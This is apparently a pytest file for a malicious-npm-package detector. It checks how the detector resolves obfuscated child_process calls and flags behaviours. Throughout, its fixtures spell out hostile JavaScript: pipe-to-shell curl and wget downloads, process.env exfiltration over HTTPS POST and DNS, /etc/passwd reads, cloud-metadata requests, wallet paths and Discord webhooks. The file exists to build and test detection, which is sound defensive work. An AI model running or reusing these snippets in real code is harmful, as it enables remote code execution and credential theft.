"""Unit tests of the JavaScript extractor: resolution, folding, scopes, call sites, bindings, budget."""

from __future__ import annotations

import time

import pytest

from malseq._deadline import Deadline
from malseq.errors import TimeBudgetExceeded
from malseq.features.budget import (
    CALL_UNITS,
    FILE_WORK_UNITS,
    MAX_PARSE_UNITS,
    WorkBudget,
    parse_cost,
    parse_window,
)
from malseq.features.commands import looks_like_command
from malseq.features.javascript import analyse_javascript, decode_js_string
from malseq.features.manifest import node_inline_scripts
from malseq.features.types import MODULE_SCOPE, Binding, CallKind, FileAnalysis
from malseq.intake.package import Language, PackageFile


def analyse(source: str, path: str = "index.js", seconds: float = 30) -> FileAnalysis:
    return analyse_javascript(PackageFile(path, source.encode(), Language.JAVASCRIPT, False), Deadline(seconds))


def behaviours(source: str) -> set[str]:
    return {e.behaviour for e in analyse(source).events}


def bindings(source: str) -> list[tuple[str, str, str | None]]:
    return [(b.name, b.module, b.attribute) for b in analyse(source).bindings]


# --- resolution --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "source",
    [
        "require('child_' + 'process').exec('id')",
        "require(['child', 'process'].join('_')).exec('id')",
        "const {exec: run} = require('child_process'); run('id')",
        "const cp = require('child_process'); cp.exec('id')",
        "import {exec} from 'node:child_process'; exec('id')",
        "import * as cp from 'child_process'; cp.spawn('id')",
        "import cp from 'child_process'; cp.execSync('id')",
        "process.mainModule.require('child_process').exec('id')",
        "module.require('child_process').exec('id')",
        "global.process.mainModule.require('child_process').exec('id')",
        "const r = eval('req' + 'uire'); r('child_process').exec('id')",
        "const m = 'child_' + 'process'; require(m).exec('id')",
        "require('ssecorp_dlihc'.split('').reverse().join(''))['ex' + 'ec']('id')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('id')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('id')",
        "require('\\x63hild_\\u0070rocess').exec('id')",
        "require(`child_process`).exec('id')",
        "const cp = require('child_process'); const e = cp.exec; e('id')",
        "(async () => { const cp = await import('child_process'); cp.exec('id'); })()",
    ],
)
def test_child_process_resolution(source: str) -> None:
    found = behaviours(source)
    assert "run_command" in found, found
    assert "import_process_module" in found, found


def test_unbound_names_are_not_modules() -> None:
    # Minified locals called `ws`, `os` or `request` are not the modules of those names.
    assert behaviours("function f(ws, os) { ws(1, 2); os.hostname(); request('x'); }") == set()
    assert "collect_system_info" in behaviours("const os = require('os'); os.hostname()")


def test_interop_wrappers_resolve_to_the_module() -> None:
    found = behaviours('const fs_1 = __importDefault(require("fs"));\nfs_1.default.readFileSync("/etc/passwd");')
    assert {"import_fs_module", "fs_read", "read_sensitive_file"} <= found
    found = behaviours('var import_child_process = __toESM(require("child_process"));\n'
                       '(0, import_child_process.execSync)("id");')
    assert "run_command" in found


def test_non_ascii_text_in_escapes_is_not_obfuscation() -> None:
    locale = "'" + "\\u0627\\u0644\\u0623\\u062d\\u062f" * 3 + "'"
    assert "escaped_string" not in behaviours(f"const day = {locale};")
    ascii_hidden = "'" + "".join(f"\\x{ord(c):02x}" for c in "child_process") + "'"
    assert "escaped_string" in behaviours(f"const m = {ascii_hidden};")


def test_process_env_through_global_and_subscript() -> None:
    assert "read_env" in behaviours("const t = globalThis.process['e' + 'nv'].TOKEN")
    assert "read_env" in behaviours("const {env} = process; send(env)")
    assert "read_env" not in behaviours("const env = config.env")


def test_shell_command_argument_is_analysed() -> None:
    events = analyse("const {execSync} = require('child_process');\nexecSync('curl -s http://x.example/a | sh')").events
    at_call = {e.behaviour for e in events if (e.line, e.column) == (2, 0)}
    assert {"run_command", "download_and_execute", "network_request"} <= at_call


def test_template_with_substitution_is_analysed_loosely() -> None:
    found = behaviours("const cp = require('child_process'); cp.exec(`curl ${url} | bash`)")
    assert "download_and_execute" in found


def test_dynamic_import_only_for_computed_names() -> None:
    assert "dynamic_import" in behaviours("const m = require(process.argv[2])")
    assert "dynamic_import" not in behaviours("const m = require('./lib/' + 'x')")
    assert "dynamic_import" not in behaviours("const m = require(path.join(__dirname, 'lib'))")


def test_detached_spawn_is_hidden() -> None:
    assert "hidden_process" in behaviours(
        "const {spawn} = require('child_process'); spawn('a.exe', [], {detached: true}).unref()")
    assert "hidden_process" in behaviours(
        "const cp = require('child_process'); const c = cp.spawn('node', ['x']); c.unref()")


def test_http_post_and_dns_exfiltration() -> None:
    found = behaviours(
        "const https = require('https');\n"
        "const opts = {hostname: 'h', method: 'POST'};\n"
        "const req = https.request(opts, res => {});\n"
        "req.write(JSON.stringify(process.env));\n"
        "require('dns').lookup(Buffer.from(require('os').hostname()).toString('hex') + '.x.example', () => {});\n"
    )
    assert {"network_request", "upload_data", "read_env", "dns_lookup", "encoding_call", "collect_system_info"} <= found


def test_eval_string_is_analysed_as_code() -> None:
    found = behaviours("eval(\"require('child_process').exec('whoami')\")")
    assert {"eval_code", "run_command"} <= found


def test_function_return_this_is_not_eval() -> None:
    assert "eval_code" not in behaviours("var g = Function('return this')();")
    assert "eval_code" in behaviours("new Function('a', payload)(1)")


# --- string folding ----------------------------------------------------------------------------
def test_decode_js_string_escapes() -> None:
    assert decode_js_string(r"\x63\x68") == "ch"
    assert decode_js_string(r"\u0063\u{68}") == "ch"
    assert decode_js_string(r"\ud83d\ude00") == "\U0001f600"
    assert decode_js_string(r"a\/b\-c") == "a/b-c"
    assert decode_js_string(r"\101") == "A"
    assert decode_js_string("caf\u00e9 \\n") == "caf\u00e9 \n"


def test_folded_concatenation_is_classified_whole() -> None:
    found = behaviours("const h = 'https://disc' + 'ord.com/api/' + `webhooks/1/abc`;")
    assert "chat_webhook" in found


def test_char_codes_and_reversal_are_classified() -> None:
    found = behaviours("const u = String.fromCharCode(104,116,116,112,115,58,47,47,97,46,98);")
    assert {"char_code_assembly", "use_url"} <= found
    found = behaviours("const u = 'moc.elpmaxe//:sptth'.split('').reverse().join('');")
    assert {"string_reversal", "use_url"} <= found


def test_base64_literal_is_decoded_and_classified() -> None:
    # "https://discord.com/api/webhooks/1/abcdef" in base64
    found = behaviours("const x = 'aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS9hYmNkZWY=';")
    assert {"base64_string", "chat_webhook"} <= found


def test_obfuscator_string_array_is_classified() -> None:
    # obfuscator.io base64 (lowercase-first alphabet) of "child_process" and a wallet path
    import base64

    def obf(text: str) -> str:
        std = base64.b64encode(text.encode()).decode()
        return std.swapcase()

    hidden = ("child_process", "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn")
    names = ", ".join(f"'{obf(t)}'" for t in hidden)
    source = f"var _0x1a2b = [{names}];\n" + "\n".join(f"var _0x{i:04x} = _0x1a2b[{i % 2}];" for i in range(6))
    found = behaviours(source)
    assert {"obfuscated_identifiers", "import_process_module", "read_crypto_wallet"} <= found


def test_comments_are_ignored() -> None:
    found = behaviours("// require('child_process').exec('curl http://x | sh')\n/* process.env.TOKEN */\nx = 1;")
    assert found == set()


def test_bare_words_are_not_shell_commands() -> None:
    # strings.py/shell.py fix: 'base64' as an encoding name or 'hostname' as a key is no command line
    assert not looks_like_command("base64")
    assert not looks_like_command("hostname")
    assert looks_like_command("whoami")
    assert looks_like_command("curl -s http://x")


# --- bindings ----------------------------------------------------------------------------------
def test_bindings_follow_the_spec() -> None:
    assert bindings("const u = require('./lib/u')") == [("u", "./lib/u", None)]
    assert bindings("const {exec: run} = require('child_process')") == [("run", "child_process", "exec")]
    assert bindings("import x, {y as z} from './m'") == [("x", "./m", "default"), ("z", "./m", "y")]
    assert bindings("import * as ns from 'm'") == [("ns", "m", None)]
    assert bindings("require('./x')") == [("", "./x", None)]
    assert bindings("import './x'") == [("", "./x", None)]
    assert bindings("import {exec} from 'node:child_process'") == [("exec", "child_process", "exec")]
    assert bindings("const y = require('m').z") == [("y", "m", "z")]
    assert bindings("export {a} from './re'") == [("", "./re", None)]


def test_binding_scope_and_line() -> None:
    analysis = analyse("function load() {\n  const fs = require('fs');\n}\n")
    assert analysis.bindings == (Binding("index.js", 2, "load", "fs", "fs", None),)


# --- functions and scopes ----------------------------------------------------------------------
def test_qualnames() -> None:
    source = """
function helper() { function inner() {} }
const send = () => {};
module.exports.run = function () {};
exports.x = function () {};
obj.method = function () {};
class Cls { method() {} }
const api = { post() {}, get: function () {} };
Foo.prototype.bar = function () {};
setTimeout(function () {}, 1);
"""
    analysis = analyse(source)
    names = {f.qualname for f in analysis.functions}
    assert {"helper", "helper.inner", "send", "run", "x", "obj.method", "Cls", "Cls.method", "post", "get",
            "Foo.bar", "<function@10:11>"} <= names
    cls = next(f for f in analysis.functions if f.qualname == "Cls")
    assert cls.is_class
    inner = next(f for f in analysis.functions if f.qualname == "helper.inner")
    assert inner.parent == "helper" and inner.name == "inner"


def test_event_scope_is_innermost_function() -> None:
    analysis = analyse("function a() {\n  const b = () => process.env.X;\n}\nprocess.env.Y;\n")
    scopes = [(e.line, e.scope) for e in analysis.events if e.behaviour == "read_env"]
    assert scopes == [(2, "a.b"), (4, MODULE_SCOPE)]


# --- calls -------------------------------------------------------------------------------------
def test_call_sites_callbacks_and_inline_functions() -> None:
    source = """function f() {}
https.get(url, res => { res.on('data', d => f(d)); });
setTimeout(f, 10);
p.then(f);
process.on('exit', f);
new Foo(1);
obj['ex' + 'ec']('x');
"""
    analysis = analyse(source)
    calls = [(c.line, c.column, c.scope, c.callee, c.kind) for c in analysis.calls]
    assert (2, 6, MODULE_SCOPE, "https.get", CallKind.CALL) in calls
    assert (2, 15, MODULE_SCOPE, "<arrow@2:15>", CallKind.INLINE) in calls
    assert (2, 28, "<arrow@2:15>", "res.on", CallKind.CALL) in calls
    assert (2, 39, "<arrow@2:15>", "<arrow@2:39>", CallKind.INLINE) in calls
    assert (2, 44, "<arrow@2:39>", "f", CallKind.CALL) in calls
    assert (3, 11, MODULE_SCOPE, "f", CallKind.CALLBACK) in calls
    assert (4, 7, MODULE_SCOPE, "f", CallKind.CALLBACK) in calls
    assert (5, 19, MODULE_SCOPE, "f", CallKind.CALLBACK) in calls
    assert (6, 0, MODULE_SCOPE, "Foo", CallKind.CALL) in calls
    assert (7, 0, MODULE_SCOPE, "obj.exec", CallKind.CALL) in calls
    assert {f.qualname for f in analysis.functions} >= {"<arrow@2:15>", "<arrow@2:39>"}


def test_results_are_in_source_order() -> None:
    analysis = analyse("a(); b();\nc(d());\n")
    keys = [(c.line, c.column) for c in analysis.calls]
    assert keys == sorted(keys)
    assert [c.callee for c in analysis.calls] == ["a", "b", "c", "d"]


# --- obfuscation signals -----------------------------------------------------------------------
def test_minified_and_obfuscated_once_per_file_and_capped() -> None:
    body = ";".join(f"var _0x{i:04x}=Buffer.from(x{i},'base64')" for i in range(400))
    analysis = analyse(body)
    kinds = [e.behaviour for e in analysis.events]
    assert kinds.count("minified_code") == 1
    assert kinds.count("obfuscated_identifiers") == 1
    assert kinds.count("encoding_call") == 20  # capped per (behaviour, scope)


# --- robustness and budget ---------------------------------------------------------------------
def test_syntax_errors_keep_going() -> None:
    analysis = analyse("const x = ;\nif (a {\nrequire('child_process').exec('id');\n")
    assert analysis.parse_errors
    assert "run_command" in {e.behaviour for e in analysis.events}


def test_jsx_is_parsed() -> None:
    analysis = analyse("const App = () => <div onClick={() => fetch('https://x.example')}>hi</div>;", "app.jsx")
    assert not analysis.parse_errors
    assert "network_request" in {e.behaviour for e in analysis.events}


def test_expired_deadline_raises_instead_of_returning_less() -> None:
    deadline = Deadline(0.0)
    time.sleep(0.01)
    with pytest.raises(TimeBudgetExceeded):
        analyse_javascript(PackageFile("a.js", b"eval(x)", Language.JAVASCRIPT, False), deadline)


def test_multi_megabyte_minified_bundle_stays_within_budget() -> None:
    chunk = "function a{i}(b,c){{return b.x{i}(c)+'s{i}'+require('m{i}')}}var v{i}=a{i}(1,[2,3,{{k:4}}]);"
    source = "".join(chunk.format(i=i) for i in range(60_000))  # about 6 MB on one line
    assert len(source) > 5_000_000
    data = source.encode()
    # The budget is counted work, not time: the parse reads a bounded head and tail...
    window = parse_window(data)
    assert window is not None
    head_end, tail_start = window
    assert parse_cost(data, 0, head_end) + parse_cost(data, tail_start) <= MAX_PARSE_UNITS
    work = WorkBudget(FILE_WORK_UNITS)
    analysis = analyse_javascript(PackageFile("index.js", data, Language.JAVASCRIPT, False), Deadline(600), work)
    # ... and the passes spend at most the file's units, whatever the machine's load.
    assert analysis.budget_exhausted
    assert work.used <= FILE_WORK_UNITS + CALL_UNITS
    assert len(analysis.calls) <= FILE_WORK_UNITS // CALL_UNITS
    assert analysis.calls  # partial results, not nothing: every pass gets its share
    assert {c.line for c in analysis.calls} == {1}
    # The cut is the same on every run.
    again = analyse(source, seconds=600)
    assert (again.events, again.calls, again.functions) == (analysis.events, analysis.calls, analysis.functions)


def test_payload_at_the_end_of_an_oversized_bundle_is_seen() -> None:
    filler = "var q{i}=function(a){{return a+{i}}};"
    source = "".join(filler.format(i=i) for i in range(120_000)) + "\neval(atob(payload));\n"
    assert len(source) > 3_000_000
    analysis = analyse(source, seconds=600)
    assert analysis.budget_exhausted
    assert "eval_code" in {e.behaviour for e in analysis.events}


def test_deeply_nested_code_does_not_crash() -> None:
    source = "x = " + "(" * 3000 + "1" + ")" * 3000 + ";\n" + "a" + ".b()" * 2000 + ";\n" + "s = " + " + ".join(
        ["'a'"] * 5000) + ";"
    analysis = analyse(source)
    assert isinstance(analysis, FileAnalysis)


# --- npm scripts -------------------------------------------------------------------------------
def test_node_inline_scripts() -> None:
    assert node_inline_scripts("node -e \"require('x')\"") == ["require('x')"]
    assert node_inline_scripts("node --eval='1+1' && node index.js") == ["1+1"]
    assert node_inline_scripts("node index.js") == []


# --- fast paths: an ASCII file's text sliced from one decoded string, call arguments without comments
_FAST_PATH_SOURCE = """const cp = require('child_process');
const \\u0065x = cp.exec;
cp.exec(/* a ( comment */ 'curl http://x.example/i | sh', // another
        () => { process.env.TOKEN; });
ex('wget http://y.example/p | bash');
run(url /* "/" in a string too */, '/tmp/x');
"""


def _fingerprint(analysis: FileAnalysis) -> list[tuple[object, ...]]:
    return ([("event", e.behaviour, e.line, e.column, e.scope, e.snippet) for e in analysis.events]
            + [("call", c.line, c.column, c.scope, c.callee, c.kind) for c in analysis.calls]
            + [("binding", b.line, b.scope, b.name, b.module, b.attribute) for b in analysis.bindings])


def test_non_ascii_file_reads_like_the_ascii_one() -> None:
    """A non-ASCII file takes the decode-per-node path, an ASCII one the sliced text: same answers."""
    ascii_file = analyse(_FAST_PATH_SOURCE)
    non_ascii = analyse(_FAST_PATH_SOURCE + "// caf\u00e9\n")
    assert _fingerprint(ascii_file) == _fingerprint(non_ascii)
    found = {e.behaviour for e in ascii_file.events}
    assert {"run_command", "read_env"} <= found
    # The comment is not an argument: the arrow function is the second one, an inline call site.
    assert any(c.kind is CallKind.INLINE and c.line == 4 for c in ascii_file.calls)
    # `\u0065x` is `ex`: the escaped alias still resolves to child_process.exec.
    assert [e.line for e in ascii_file.events if e.behaviour == "run_command"] == [3, 5]


# --- http(s).request options: the destination as a URL ---------------------------------------
def _url_events(source: str) -> list[tuple[str, int, str]]:
    return [(e.behaviour, e.line, e.snippet) for e in analyse(source).events
            if e.behaviour in ("use_url", "use_ip_address", "read_cloud_metadata", "chat_webhook")]


@pytest.mark.parametrize(("options", "url"), [
    ("{hostname: 'collector.example.invalid', path: '/c'}", "https://collector.example.invalid/c"),
    ("{host: 'localhost', port: 3000, protocol: 'http:'}", "http://localhost:3000"),
    ("{hostname: '203.0.113.9', path: 'x'}", "https://203.0.113.9/x"),
    ("{hostname: '169.254.169.254', path: '/latest/meta-data/'}", "https://169.254.169.254/latest/meta-data/"),
])
def test_request_options_report_what_the_same_url_string_reports(options: str, url: str) -> None:
    from_options = behaviours(f"const https = require('https');\nhttps.request({options});\n")
    from_string = behaviours(f"const https = require('https');\nhttps.request('{url}');\n")
    assert from_options == from_string
    assert ("use_url", 2, url) in _url_events(f"const https = require('https');\nhttps.request({options});\n")


def test_request_options_through_a_name_and_constants() -> None:
    source = ("const http = require('http');\nconst H = 'c.example.org';\n"
              "function f() {\n  const o = {host: H, port: 81, path: '/p'};\n  return http.get(o, cb);\n}\n")
    assert ("use_url", 5, "http://c.example.org:81/p") in _url_events(source)


@pytest.mark.parametrize("source", [
    "function f(o) { return https.request(o); }",
    "https.request({hostname: process.env.H, path: '/x'});",
    "https.request({...base, hostname: 'b.example.org'});",
    "https.request({[key]: 'b.example.org'});",
    "const o = {hostname: 'b.example.org'};\no.hostname = target;\nhttps.request(o);",
    "const o = {hostname: 'b.example.org'};\nObject.assign(o, extra);\nhttps.request(o);",
    "const o = {hostname: 'b.example.org'};\nfunction f() { return https.request(o); }",  # another scope
    "https.request({hostname: 'b.example.org', protocol: 'file:'});",
    # the request goes where these say, not to the host named
    "https.request({hostname: 'b.example.org', lookup: (h, o, cb) => cb(null, addr, 4)});",
    "https.request({hostname: 'b.example.org', socketPath: '/var/run/x.sock'});",
    "https.request({hostname: 'b.example.org', agent: proxyAgent});",
    "https.request({hostname: 'b.example.org', createConnection: connect});",
])
def test_request_options_with_an_unknown_host_name_no_destination(source: str) -> None:
    assert not _url_events("const https = require('https');\n" + source + "\n")


# --- orderings: the stable multi-pass sorts equal the tuple-key sorts they replaced ---------------
def test_node_orders_equal_the_tuple_key_sorts() -> None:
    import random

    import tree_sitter_javascript
    from tree_sitter import Language as TSLanguage
    from tree_sitter import Parser, Query, QueryCursor

    from malseq.features.javascript import _outer_first, _source_order

    js = TSLanguage(tree_sitter_javascript.language())
    # Nodes that share a start byte (`a().b().c()`, `x = y = z`), nest, or share start and end
    # (an expression statement and its call): where the tie-breaks decide the order.
    source = b"a().b(c(d, 'e')).f`g${h()}`; x = y = [1, 'k', function m() { n => o(p) }]; (q)(r)"
    root = Parser(js).parse(source).root_node
    captures = QueryCursor(Query(js, "_ @any")).captures(root)
    nodes = captures["any"]
    assert len({(n.start_byte, n.end_byte) for n in nodes}) < len(nodes)  # the ties are there
    rng = random.Random(7)
    for _ in range(20):
        shuffled = nodes[:]
        rng.shuffle(shuffled)
        assert [n.id for n in _source_order(shuffled)] == [
            n.id for n in sorted(shuffled, key=lambda n: (n.start_byte, -n.end_byte, n.type))]
        assert [n.id for n in _outer_first(shuffled)] == [
            n.id for n in sorted(shuffled, key=lambda n: (n.start_byte, -n.end_byte))]


def test_results_sorted_by_line_and_column_keep_equal_positions_in_emission_order() -> None:
    import random

    from malseq.features.javascript import _by_line_column
    from malseq.features.types import BehaviourEvent

    rng = random.Random(3)
    events = [BehaviourEvent(f"b{i}", "f.js", rng.randint(1, 5), rng.randint(0, 3), "s", "") for i in range(300)]
    assert [e.behaviour for e in _by_line_column(events)] == [
        e.behaviour for e in sorted(events, key=lambda e: (e.line, e.column))]


def test_whole_file_searches_answer_like_the_patterns_they_replace() -> None:
    import re

    from hypothesis import given, settings
    from hypothesis import strategies as st

    from malseq.features.javascript import _ENV_WORD, _UPLOAD_METHOD, _WORD_BYTES, _upload_method_in

    env_word = re.compile(rb"\benv\b")
    pieces = st.sampled_from([b"method", b"METHOD", b"Method", b"env", b"ENV", b"_", b"a", b"9", b"$", b" ",
                              b":", b"'", b'"', b"`", b"post", b"PUT", b"patch", b"get", b".", b"\n", b"\xc3\xa9"])

    @settings(max_examples=400, deadline=None)
    @given(st.lists(pieces, max_size=14))
    def check(parts: list[bytes]) -> None:
        data = b"".join(parts)
        assert _upload_method_in(data) is (_UPLOAD_METHOD.search(data) is not None)
        assert [m.start() for m in _ENV_WORD.finditer(data)
                if not (m.start() and data[m.start() - 1] in _WORD_BYTES)] == [
            m.start() for m in env_word.finditer(data)]

    check()
    assert _upload_method_in(b"fetch(u, {Method: 'POST'})")
    assert not _upload_method_in(b"fetch(u, {xmethod: 'POST'})")
